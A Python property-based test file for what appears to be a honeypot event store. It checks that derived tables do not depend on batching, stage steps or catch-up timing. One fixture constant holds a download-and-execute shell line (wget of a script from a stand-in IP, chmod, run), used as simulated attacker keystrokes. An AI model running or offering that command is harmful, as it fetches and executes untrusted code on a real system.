"""Derived data does not depend on how it was derived: batches, stage steps, catch-ups.

Every derived table is a function of the stored events alone. However an
ingest is cut into batches, whatever each stage's step (so the batch writer
runs the stages at different points, or not at all), and wherever a catch-up
runs in between, once the last catch-up is done the tables equal those of a
store that got every event in one batch and caught up once.
"""

from __future__ import annotations

import json
import random
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from node.event import Event, LineRejected
from node.ingest.detect import parse_line
from node.profile import sql
from node.profile.profiler import Profiler
from node.profile.stages import PROFILE_STAGES, JournalFold, KeystrokeSimhashes
from node.store import Store
from node.store.derive import Stage
from tests.support import SAMPLES

_TEXT = "cd /tmp; wget http://203.0.113.80/x.sh; chmod +x x.sh; ./x.sh\r"
_JARM_A = "27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d"
_JARM_B = "2ad2ad0002ad2ad00042d42d00000069d641f34fe76acdc05c40262f8815e5"


def _sample_events() -> list[Event]:
    events = []
    for path in sorted(SAMPLES.iterdir()):
        for line in path.read_bytes().splitlines():
            try:
                events.append(parse_line(line))
            except LineRejected:
                continue
    return events


def _session(sid: str, ip: str, seed: int, time: str) -> list[Event]:
    """A transcript shard of ~60 keystrokes (input and echo) and the record linking it to ip."""
    rnd, t, events = random.Random(seed), 1.0, []
    for ch in _TEXT:
        t += rnd.uniform(0.05, 0.4)
        for channel, at in (("i", t), ("o", t + 0.002)):
            events.append(parse_line(json.dumps({"sid": sid, "t": round(at, 6), "ch": channel,
                                                 "d": ch}).encode()))
    events.append(parse_line(f"<134>1 2026-03-02T{time}+00:00 web-02 sessrec - session_recorded"
                             f' [relay@55555 sid="{sid}" service="ssh" src_ip="{ip}"'
                             f' duration_s="30"]'.encode()))
    return events


def _syslog(time: str, host: str, app: str, msgid: str, sd: str) -> Event:
    return parse_line(f"<134>1 2026-03-02T{time}+00:00 {host} {app} - {msgid}"
                      f" [relay@55555 {sd}]".encode())


def _extras() -> list[Event]:
    """What the samples lack: a server rotating its JARM (twice), rejected recipients."""
    jarm = [_syslog(time, "decnet-prober", "prober", "jarm_fingerprint",
                    f'target_ip="192.0.2.80" target_port="443" jarm_hash="{value}"')
            for time, value in (("09:05:00", _JARM_A), ("09:40:00", _JARM_B),
                                ("10:30:00", _JARM_B), ("11:15:00", _JARM_A))]
    rejected = [_syslog(time, "mail-01", "smtp", "rcpt_to",
                        f'src="198.51.100.23" value="<{to}>"')
                for time, to in (("08:20:00", "root@localhost"), ("08:21:00", "a@[192.0.2.1]"),
                                 ("08:22:00", "b@localhost"))]
    return [*jarm, *rejected]


EVENTS: list[Event] = sorted({e.key: e for e in [
    *_sample_events(),
    *_extras(),
    *_session("a1b2c3d4", "198.51.100.77", 1, "09:20:00"),
    *_session("e5f6a7b8", "203.0.113.5", 2, "09:25:00"),
]}.values(), key=lambda e: e.key)

# Each derived table as sorted rows, without the columns that record how it was
# derived (ids handed out in arrival order, the keystroke stage's change mark).
_TABLES: dict[str, str] = {
    **{journal.table: f"SELECT * FROM {journal.table}"  # noqa: S608
       for journal in sql.JOURNALS},
    "profile_probe_state": "SELECT * FROM profile_probe_state",
    "profile_rotations": "SELECT ip, port, probe, time_us, old_value, new_value"
                         " FROM profile_rotations",
    "transcript_sessions": "SELECT * FROM transcript_sessions",
    "session_links": "SELECT * FROM session_links",
    "keystroke_simhashes": "SELECT sid, simhash, digraphs, samples FROM keystroke_simhashes",
    "profile_rejections": "SELECT * FROM profile_rejections",
    "observation_services": "SELECT * FROM observation_services",
    "observation_honeypots": "SELECT * FROM observation_honeypots",
    "observations": "SELECT ip, first_seen_us, last_seen_us, event_count FROM observations",
}


def _sortable(row: tuple[Any, ...]) -> tuple[tuple[bool, str, str], ...]:
    return tuple((value is None, type(value).__name__, repr(value)) for value in row)


async def _derived(store: Store) -> dict[str, list[tuple[Any, ...]]]:
    return {name: sorted(await store.fetch(query), key=_sortable)
            for name, query in _TABLES.items()}


@dataclass(frozen=True)
class Plan:
    """How to write `EVENTS`: cut points, each stage's step, and where to catch up."""

    cuts: list[int]  # batch boundaries, ascending, each inside 1..len(EVENTS)-1
    fold_steps: list[int]  # one per journal of sql.JOURNALS
    keystroke_step: int
    catch_up_after: frozenset[int]  # indices of batches followed by a catch-up

    @property
    def batches(self) -> list[list[Event]]:
        bounds = [0, *self.cuts, len(EVENTS)]
        return [EVENTS[a:b] for a, b in zip(bounds, bounds[1:], strict=False)]

    @property
    def stages(self) -> list[Stage]:
        folds: list[Stage] = [JournalFold(journal, step=step)
                              for journal, step in zip(sql.JOURNALS, self.fold_steps,
                                                       strict=True)]
        return [*folds, KeystrokeSimhashes(step=self.keystroke_step)]


@st.composite
def _plans(draw: st.DrawFn) -> Plan:
    cuts = sorted(draw(st.sets(st.integers(1, len(EVENTS) - 1), max_size=40)))
    steps = draw(st.lists(st.integers(1, 6), min_size=len(sql.JOURNALS),
                          max_size=len(sql.JOURNALS)))
    keystroke = draw(st.integers(1, 6))
    catch_ups = draw(st.sets(st.integers(0, len(cuts)), max_size=len(cuts) + 1))
    return Plan(cuts, steps, keystroke, frozenset(catch_ups))


_reference: dict[str, list[tuple[Any, ...]]] = {}


async def _reference_tables() -> dict[str, list[tuple[Any, ...]]]:
    """The derived tables of one batch of every event and one catch-up (computed once)."""
    if not _reference:
        with tempfile.TemporaryDirectory() as tmp:
            store = await Store.open(Path(tmp) / "node.db", profilers=[Profiler()],
                                     stages=PROFILE_STAGES)
            try:
                assert await store.write_batch(EVENTS) == len(EVENTS)
                await store.catch_up()
                _reference.update(await _derived(store))
            finally:
                await store.close()
    return _reference


async def test_the_reference_derives_every_kind_of_row() -> None:
    """Guards the property below from passing vacuously on empty tables."""
    tables = await _reference_tables()
    empty = {name for name, rows in tables.items() if not rows}
    assert not empty
    assert len(tables["profile_rotations"]) == 2
    assert {sid for sid, *_ in tables["keystroke_simhashes"]} >= {"a1b2c3d4", "e5f6a7b8"}
    assert {row[0] for row in tables["session_links"]} >= {"a1b2c3d4", "e5f6a7b8", "5f0c9a7e"}


@settings(deadline=None, max_examples=25, suppress_health_check=[HealthCheck.too_slow])
@given(_plans())
async def test_any_batching_steps_and_catch_ups_derive_the_same_tables(plan: Plan) -> None:
    expected = await _reference_tables()
    with tempfile.TemporaryDirectory() as tmp:
        store = await Store.open(Path(tmp) / "node.db", profilers=[Profiler()],
                                 stages=plan.stages)
        try:
            for index, batch in enumerate(plan.batches):
                assert await store.write_batch(batch) == len(batch)
                if index in plan.catch_up_after:
                    await store.catch_up()
            await store.catch_up()
            assert await _derived(store) == expected
            lags = await store.lags()
            assert set(lags) == {"observation_sets", "keystrokes",
                                 *(f"fold:{journal.table}" for journal in sql.JOURNALS)}
            assert all(lag == 0 for lag in lags.values()), lags
            for journal in sql.JOURNALS:
                assert await store.fetch(
                    f"SELECT count(*) FROM {journal.journal}") == [(0,)]  # noqa: S608
        finally:
            await store.close()
